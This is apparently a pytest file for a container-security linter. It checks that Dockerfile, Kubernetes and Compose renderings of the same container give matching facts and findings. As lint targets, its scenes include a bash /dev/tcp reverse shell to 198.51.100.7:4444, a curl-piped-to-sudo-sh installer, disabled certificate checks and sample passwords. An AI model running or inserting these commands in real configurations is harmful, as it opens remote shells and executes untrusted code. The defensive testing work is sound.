"""One container as a stage of a Dockerfile, as a container of a pod and as a service: equal facts, equal findings."""

from __future__ import annotations

import json
from functools import cache
from typing import Any
from typing import NamedTuple

import pytest

from hullmark.config import Config
from hullmark.config import Selection
from hullmark.document import Document
from hullmark.engine import lint
from hullmark.finding import ALL
from hullmark.ids import Ids
from hullmark.model import Assignment
from hullmark.model import Command
from hullmark.model import Container
from hullmark.model import File
from hullmark.model import Image
from hullmark.model import Port
from hullmark.model import Url
from hullmark.model import Variable
from hullmark.registry import Registry
from hullmark.registry import load
from hullmark.rule import Rule
from hullmark.text import Text

#: Where the types of the shared facts are.
SHARED = ("hullmark.model:", "hullmark.network:", "hullmark.relations:", "hullmark.script:")

#: Rules whose finding not every format can have, by the reason.
EXCEPTIONS = {
    "a Dockerfile has no place for what a container may do on its host": {
        "capabilities-not-dropped", "privilege-escalation-allowed", "read-only-root-filesystem-not-set",
        "host-user-namespace", "cpu-limit-missing", "cpu-request-missing", "memory-limit-missing",
        "memory-request-missing", "security-options-missing",
    },
    "a manifest has probes instead, and rules of its own about them": {"healthcheck-missing"},
    "EXPOSE says nothing of a server that runs, the port of a container does": {"ssh-daemon", "ssh-port-exposed"},
    "a build has one registry to ask, a node may have several": {"image-short-name"},
    "a pod is restarted, and its latest image pulled, if nothing is said; a service is not": {
        "restart-policy-missing", "stale-image-pull-policy",
    },
    "of a service it counts on which port of the host it is published": {"privileged-port"},
    "only an engine that is told of a service keeps its logs and opens its ports": {
        "log-rotation-missing", "port-bound-to-all-interfaces", "privileged-port-published",
    },
    "of a service one finding about its tag is enough": {"image-not-pinned-by-digest"},
    "the address of a server in an image is a default": {"database-url-without-tls"},
    "elsewhere secret-in-env says it": {"default-credentials"},
    "in a manifest the image may say it; run-as-non-root-not-set asks for more": {"no-user"},
}


class Scene(NamedTuple):
    """A container in words that all formats have."""

    image: str = "example.org/team/app:1.4.2"
    user: str = "10001:10001"
    env: tuple[tuple[str, str], ...] = ()
    ports: tuple[str, ...] = ()
    command: tuple[str, ...] = ("app", "serve")
    health: tuple[str, ...] = ()

    @property
    def dockerfile(self) -> str:
        """The scene as a stage."""
        lines = [f"FROM {self.image}", *([f"USER {self.user}"] if self.user else [])]
        lines += [f"ENV {name}={json.dumps(value)}" for name, value in self.env]
        lines += [f"EXPOSE {port}" for port in self.ports]
        lines += [f"HEALTHCHECK CMD {json.dumps(self.health)}"] if self.health else []
        return "\n".join([*lines, f"ENTRYPOINT {json.dumps(self.command)}", ""])

    @property
    def manifest(self) -> str:
        """The scene as a pod, in JSON."""
        account, _, group = self.user.partition(":")
        container: dict[str, Any] = {
            "name": "main",
            "image": self.image,
            "env": [{"name": name, "value": value} for name, value in self.env],
            "ports": [_port(port) for port in self.ports],
            "command": self.command,
        }
        if account:
            container["securityContext"] = {"runAsUser": int(account), **({"runAsGroup": int(group)} if group else {})}
        if self.health:
            container["livenessProbe"] = {"exec": {"command": self.health}}
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"containers": [container]}}
        return json.dumps(pod, indent=2)

    @property
    def service(self) -> str:
        """The scene as a service, in JSON."""
        service: dict[str, Any] = {
            "image": self.image,
            "environment": dict(self.env),
            "ports": list(self.ports),
            "entrypoint": self.command,
            **({"user": self.user} if self.user else {}),
            **({"healthcheck": {"test": ["CMD", *self.health]}} if self.health else {}),
        }
        return json.dumps({"services": {"main": service}}, indent=2).replace("$", "$$")

    @property
    def sources(self) -> tuple[tuple[str, str], ...]:
        """The scene in each format."""
        return ("dockerfile", self.dockerfile), ("kubernetes", self.manifest), ("compose", self.service)


def _port(port: str) -> dict[str, Any]:
    number, _, protocol = port.partition("/")
    return {"containerPort": int(number), **({"protocol": protocol.upper()} if protocol else {})}


SCENES = {
    "plain": Scene(),
    "root": Scene(user="0", image="nginx"),
    "no user": Scene(user=""),
    "group": Scene(user="0:0", image="nginx:latest"),
    "digest": Scene(image=f"ghcr.io/team/app:1.4.2@sha256:{'0123456789abcdef' * 4}"),
    "broken reference": Scene(image="example.org/Team/app:1.4.2"),
    "floating tag": Scene(image="example.org:5000/app:stable"),
    "ports": Scene(ports=("22", "80/tcp", "53/udp", "8080")),
    "credentials": Scene(
        env=(
            ("DB_PASSWORD", "Tr0ub4dor&3"), ("POSTGRES_PASSWORD", "postgres"), ("API_KEY", "9aK-xx2_Q7"),
            ("DATABASE_URL", "postgres://app:s3kretx@db/app"), ("SECRET_NAME", "app"), ("DB_PASSWORD_FILE", "/run/x"),
        ),
        command=("app", "--token", "9aK-xx2_Q7", "--password=hunter2x"),
    ),
    "certificates": Scene(
        env=(("NODE_TLS_REJECT_UNAUTHORIZED", "0"), ("GIT_SSL_NO_VERIFY", "true"), ("PYTHONHTTPSVERIFY", "0")),
        command=("sh", "-c", "curl -k https://example.org/a && wget --no-check-certificate https://example.org/b"),
        health=("curl", "--insecure", "https://example.org/health"),
    ),
    "development": Scene(env=(("FLASK_DEBUG", "1"), ("NODE_ENV", "development"), ("LOG_LEVEL", "debug"))),
    "script": Scene(
        command=("bash", "-ec", "cd /srv && curl -sSL http://example.com/install.sh | A=1 sudo sh; echo x=1 > /etc/x"),
        health=("sh", "-c", "pg_isready -U app || exit 1"),
    ),
    "reverse shell": Scene(command=("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")),
    "server": Scene(command=("/usr/sbin/sshd", "-D", "-e")),
}

#: Scenes of which all formats have nothing to say but what is an exception.
QUIET = ("digest",)

every_scene = pytest.mark.parametrize("scene", SCENES.values(), ids=list(SCENES))


@cache
def installed() -> tuple[Registry, Ids]:
    registry = load(None)
    return registry, Ids(registry.rules)


def is_shared(rule: Rule) -> bool:
    """Tell whether a rule reads shared facts only."""
    return bool(rule.on) and all(str(kind).startswith(SHARED) for kind in rule.on)


def document(format_name: str, source: str, selection: Selection | None = None) -> Document:
    format = installed()[0].format(format_name)
    assert format is not None
    return format.parse("app", source, selection.format_options(format) if selection else None, lambda kind: True)


def plain(value: object) -> str | None:
    return str(value) if isinstance(value, Text) else None


def said(fact: object) -> tuple[object, ...] | None:
    """Return what a fact says, without its place and without what not every format can say."""
    if isinstance(fact, Image):
        return "image", *map(plain, (fact.text, fact.name, fact.registry, fact.tag, fact.digest))
    if isinstance(fact, Container) and fact.user is not None:
        user = fact.user
        return "user", *map(plain, (user.name, user.uid, user.group)), user.root
    if isinstance(fact, Variable):
        return "variable", fact.kind, str(fact.name), plain(fact.value)
    if isinstance(fact, Port):
        return "port", str(fact.number), plain(fact.last), str(fact.protocol or "tcp").lower()
    if isinstance(fact, Command):
        words = tuple(map(str, fact.args))
        return "command", fact.script.use, fact.program, words, fact.before, fact.after, fact.wrappers
    if isinstance(fact, Assignment):
        return "assignment", str(fact.name), str(fact.value)
    if isinstance(fact, File):
        return "file", plain(fact.path), str(fact.text)
    if isinstance(fact, Url):
        return "url", str(fact.text), fact.scheme, fact.host, fact.fetcher
    return None


@every_scene
def test_all_formats_say_the_same(scene: Scene) -> None:
    sides = []
    for name, source in scene.sources:
        facts = document(name, source).facts
        sides.append(sorted((found for fact in facts if (found := said(fact)) is not None), key=repr))
    assert sides[0] == sides[1] == sides[2]


@cache
def differences(name: str) -> frozenset[str]:
    """Return the rules over shared facts that speak up in some of the formats only."""
    registry, ids = installed()
    shared = tuple(rule.slug for rule in registry.rules if is_shared(rule))
    selection = Selection(registry, ids, Config()._replace(profile=ALL, select=shared))
    scene = SCENES[name]
    sides = []
    for format_name, source in scene.sources:
        found = lint(document(format_name, source, selection), selection, today="2026-01-01")
        assert not [finding for finding in found if finding.rule == "internal-error"]
        sides.append({finding.rule for finding in found})
    common = set.intersection(*sides)
    assert common or name in QUIET
    return frozenset(set.union(*sides) - common)


@pytest.mark.parametrize("name", SCENES)
def test_rules_about_shared_facts_find_the_same(name: str) -> None:
    assert differences(name) <= set().union(*EXCEPTIONS.values())


def test_every_exception_is_needed() -> None:
    assert set().union(*map(differences, SCENES)) == set().union(*EXCEPTIONS.values())
